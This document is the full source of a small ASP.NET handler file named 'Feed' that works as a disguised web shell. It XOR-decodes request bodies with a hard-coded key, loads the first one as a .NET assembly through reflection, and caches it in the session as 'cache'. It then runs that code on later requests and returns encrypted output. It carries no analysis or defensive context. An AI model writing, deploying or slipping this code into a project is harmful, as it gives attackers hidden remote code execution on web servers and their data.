<%@ WebHandler Language="C#" Class="Feed" %>
public class Feed : System.Web.IHttpHandler, System.Web.SessionState.IRequiresSessionState
{
    public bool IsReusable { get { return false; } }
    byte[] X(byte[] d, string k)
    {
        for (int i = 0; i < d.Length; i++) d[i] = (byte)(d[i] ^ k[(i + 1) & 15]);
        return d;
    }
    public void ProcessRequest(System.Web.HttpContext ctx)
    {
        string k = "0123456789abcdef";
        byte[] d = X(ctx.Request.BinaryRead(ctx.Request.ContentLength), k);
        if (ctx.Session["cache"] == null)
        {
            ctx.Session["cache"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d });
            return;
        }
        object o = ((System.Reflection.Assembly)ctx.Session["cache"]).CreateInstance("Z");
        o.Equals(ctx); o.Equals(d);
        ctx.Response.BinaryWrite(X(System.Text.Encoding.Default.GetBytes(o.ToString()), k));
    }
}
